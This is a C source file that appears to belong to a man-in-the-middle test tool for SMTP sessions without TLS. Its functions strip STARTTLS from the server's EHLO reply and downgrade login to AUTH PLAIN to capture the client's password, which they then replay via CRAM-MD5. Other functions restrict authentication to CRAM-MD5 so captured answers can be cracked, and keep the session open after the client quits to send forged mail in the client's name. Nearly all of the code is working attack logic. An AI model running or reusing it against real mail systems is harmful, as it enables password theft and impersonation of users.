/* Attacks on SMTP without TLS: nothing binds a login to the session behind it, and nothing the list
 * of what a server can to the server. */
#include <strings.h>

#include "../crypto/cram.h"
#include "mitm_relay.h"

/* --- the server's reply to EHLO --- */

/* Its lines, changed by `edit`: which returns what stands in place of a line's text; NULL: the line
 * goes. 0, or -1 (no memory). */
static int rewrite_hello(const struct buf *in, struct buf *out,
	const char *(*edit)(const char *text, size_t n, size_t *out_n))
{
	struct cursor c = cursor_over(in->p, in->n);
	const uint8_t *line;
	size_t n, last = 0;

	while (get_line(&c, &line, &n)) {
		const char *text = (const char *)line + 4;
		n -= n > 0 && line[n - 1] == '\r' ? 1 : 0;
		size_t text_n = n < 4 ? 0 : n - 4;
		const char *in_its_place = edit(text, text_n, &text_n);
		if (n < 4 || in_its_place == NULL) {
			continue;
		}
		last = out->n;
		if (buf_append_str(out, "250-") != 0 ||
			buf_append(out, in_its_place, text_n) != 0 ||
			buf_append_str(out, "\r\n") != 0) {
			return -1;
		}
	}
	if (out->n > 0) {
		out->p[last + 3] = ' ';
	}
	return 0;
}

static bool begins(const char *text, size_t n, const char *word)
{
	size_t k = strlen(word);

	return n >= k && strncasecmp(text, word, k) == 0 && (n == k || text[k] == ' ');
}

static bool offers(const char *text, size_t n, const char *mechanism)
{
	return begins(text, n, "AUTH") && memmem(text, n, mechanism, strlen(mechanism)) != NULL;
}

/* Only the mechanism whose answers can be guessed at quickly. */
static const char *leave_cram(const char *text, size_t n, size_t *out_n)
{
	static const char weak[] = "AUTH CRAM-MD5";

	*out_n = offers(text, n, "CRAM-MD5") ? strlen(weak) : n;
	return offers(text, n, "CRAM-MD5") ? weak : text;
}

/* No TLS, and where the attacker can log in by CRAM-MD5 himself, only the mechanism that shows him
 * the password. */
static const char *leave_plain(const char *text, size_t n, size_t *out_n)
{
	static const char plain[] = "AUTH PLAIN";

	*out_n = offers(text, n, "CRAM-MD5") ? strlen(plain) : n;
	return begins(text, n, "STARTTLS") ? NULL : offers(text, n, "CRAM-MD5") ? plain : text;
}

/* 1: it was said, or -1. */
static int say_hello(struct relay *r, const struct mitm_message *m,
	const char *(*edit)(const char *, size_t, size_t *), const char *what, struct err *e)
{
	struct buf reply = {0};
	int rc = rewrite_hello(&m->bytes, &reply, edit);

	rc = rc != 0 ? err_set(e, EX_TEMPFAIL, "out of memory")
		     : relay_say(r, MITM_CLIENT, reply.p, reply.n, what, e);
	buf_free(&reply);
	return rc == 0 ? 1 : -1;
}

static bool is_hello(const struct relay *r, const struct mitm_message *m)
{
	return m->kind == MITM_REPLY && r->smtp.is_hello && !r->smtp.tls;
}

/* --- as the client, to the server --- */

/* Say a text, and hear the reply: *code, 0 when none comes. */
static int ask(struct relay *r, const char *text, const char *what, unsigned *code, struct err *e)
{
	struct mitm_message m = {0};
	int rc = relay_say(r, MITM_SERVER, text, strlen(text), what, e);

	rc = rc == 0 ? relay_hear(r, MITM_SERVER, &m, e) : rc;
	*code = rc == 0 ? r->smtp.code : 0;
	if (rc == 0 && r->smtp.code == 334) {
		mitm_smtp_listen(r, &m); /* the challenge */
	}
	buf_free(&m.bytes);
	return rc < 0 ? -1 : 0;
}

/* In the session that the client has left, and the server does not know to be left. */
static int send_own_mail(struct relay *r, unsigned *code, struct err *e)
{
	const struct mitm_smtp_heard *h = &r->mine->smtp;
	static const char domain[] = "localhost"; /* where the client has not said one */
	const char *from_domain = h->from.domain[0] != '\0' ? h->from.domain : domain;
	char from[2 * SMTP_PATH_MAX], to[2 * SMTP_PATH_MAX], mail[4 * SMTP_PATH_MAX];
	const char *local = h->from.local[0] != '\0' ? h->from.local : h->user;
	bool wrote = h->to.local[0] != '\0';

	(void)snprintf(from, sizeof from, "MAIL FROM:<%s@%s>\r\n", local, from_domain);
	(void)snprintf(to, sizeof to, "RCPT TO:<%s%s%s>\r\n", wrote ? h->to.local : local,
		!wrote || h->to.domain[0] != '\0' ? "@" : "", wrote ? h->to.domain : from_domain);
	(void)snprintf(mail, sizeof mail,
		"From: <%s@%s>\r\nSubject: from the attacker, in the name of %s\r\n\r\n"
		"Whoever relays a session without TLS goes on in it.\r\n.\r\n",
		local, from_domain, h->user);
	const struct {
		const char *text, *what;
		unsigned wanted;
	} steps[] = {{from, "a mail of the attacker's, in the client's name", 250},
		{to, "for whom the client wrote to", 250}, {"DATA\r\n", "here it comes", 354},
		{mail, "what the client never wrote", 250}};
	int rc = 0;

	*code = 0;
	for (size_t i = 0; rc == 0 && i < sizeof steps / sizeof steps[0]; i++) {
		rc = ask(r, steps[i].text, steps[i].what, code, e);
		if (rc == 0 && *code != steps[i].wanted) {
			*code = *code == 0 ? 1 : *code;
			break;
		}
	}
	return rc;
}

/* The client takes its leave, and is let go; the session stays. */
static int use_session(struct relay *r, struct err *e)
{
	static const char bye[] = "221 2.0.0 goodbye\r\n", quit[] = "QUIT\r\n";
	unsigned code, ignored;

	if (relay_say(r, MITM_CLIENT, bye, strlen(bye), "the goodbye, in the server's place", e) !=
		0) {
		return -1;
	}
	relay_hang_up(r, MITM_CLIENT);
	relay_end(r);
	if (send_own_mail(r, &code, e) != 0) {
		return -1;
	}
	relay_result(r, code == 250,
		code == 250 ? "the server took a mail of the attacker's as %s's"
			    : "the server did not take a mail of the attacker's as %s's",
		r->mine->smtp.user);
	return ask(r, quit, "and goodbye", &ignored, e) == 0 ? 1 : -1;
}

/* --- smtp-relay --- */

int mitm_smtp_relay(struct relay *r, struct mitm_message *m, struct err *e)
{
	mitm_smtp_listen(r, m);
	if (is_hello(r, m) && memmem(m->bytes.p, m->bytes.n, "CRAM-MD5", 8) != NULL) {
		return say_hello(
			r, m, leave_cram, "the same, with CRAM-MD5 as the only way to log in", e);
	}
	return mitm_is_command(m, "QUIT") && r->mine->smtp.logged_in ? use_session(r, e) : 0;
}

/* --- strip-starttls --- */

/* The client has shown the password: its login is done in its place. 1 or -1. */
static int log_in(struct relay *r, struct err *e)
{
	struct mitm_smtp_heard *h = &r->mine->smtp;
	uint8_t challenge[SMTP_COMMAND_MAX], digest[CRAM_BYTES];
	char hex[2 * CRAM_BYTES + 1], plain[sizeof h->user + sizeof hex];
	static const char yes[] = "235 2.7.0 welcome\r\n", no[] = "535 5.7.8 refused\r\n";
	struct cram_states states;
	struct buf line = {0};
	unsigned code;
	int k, rc = ask(r, "AUTH CRAM-MD5\r\n", "a login in the client's place", &code, e);

	if (rc == 0 && code == 334) {
		k = smtp_decode64(challenge, sizeof challenge, h->challenge.p, h->challenge.n);
		cram_states_of(h->password, strlen(h->password), &states);
		cram_answer(&states, challenge, k < 0 ? 0 : (size_t)k, digest);
		hex_encode(hex, digest, sizeof digest);
		int n = snprintf(plain, sizeof plain, "%s %s", h->user, hex);
		rc = smtp_encode64(&line, plain, (size_t)n) == 0 &&
				     buf_append(&line, "\r\n", 3) == 0
			     ? ask(r, (const char *)line.p, "with the password that it said", &code,
				       e)
			     : err_set(e, EX_TEMPFAIL, "out of memory");
		wipe(&states, sizeof states);
		buf_free(&line);
	}
	if (rc == 0) {
		mitm_smtp_login(r, code);
		rc = relay_say(r, MITM_CLIENT, code == 235 ? yes : no,
			strlen(code == 235 ? yes : no), "how that ended", e);
	}
	return rc == 0 ? 1 : -1;
}

/* AUTH PLAIN, of which the server is not told. 0: it is none; 1; -1. */
static int take_login(struct relay *r, const struct mitm_message *m, struct err *e)
{
	const struct mitm_smtp_heard *h = &r->mine->smtp;
	static const char go_on[] = "334 \r\n";

	if (strcasecmp(h->mechanism, "PLAIN") != 0 || r->mine->step == 0 ||
		(m->kind != MITM_COMMAND && m->kind != MITM_AUTH)) {
		return 0;
	}
	if (h->password[0] != '\0') {
		return log_in(r, e);
	}
	r->smtp.auth = true; /* its next line is the answer */
	return relay_say(r, MITM_CLIENT, go_on, strlen(go_on), "go on, in the server's place", e) ==
			       0
		       ? 1
		       : -1;
}

int mitm_strip_starttls(struct relay *r, struct mitm_message *m, struct err *e)
{
	static const char no[] = "502 5.5.1 there is no such command\r\n";
	int rc;

	mitm_smtp_listen(r, m);
	if (is_hello(r, m)) {
		/* whose password is known can be logged in */
		r->mine->step = memmem(m->bytes.p, m->bytes.n, "CRAM-MD5", 8) != NULL ? 1 : 0;
		return say_hello(r, m, leave_plain, "the same without STARTTLS", e);
	}
	if (mitm_is_command(m, "STARTTLS")) {
		rc = relay_say(r, MITM_CLIENT, no, strlen(no), "no TLS, in the server's place", e);
		return rc == 0 ? 1 : -1;
	}
	return take_login(r, m, e);
}

/* --- the end of both --- */

void mitm_smtp_over(struct relay *r)
{
	const struct mitm_smtp_heard *h = &r->mine->smtp;

	if (r->wire != MITM_IS_SMTP) {
		relay_result(r, false, "this was not SMTP");
	} else if (r->smtp.tls) {
		relay_result(r, false, "TLS: %u sealed records of the client's, and no text",
			r->smtp.sealed[MITM_CLIENT]);
	} else if (h->mails == 0 && !h->logged_in) {
		relay_result(r, false, "no login and no mail came in the clear");
	}
}
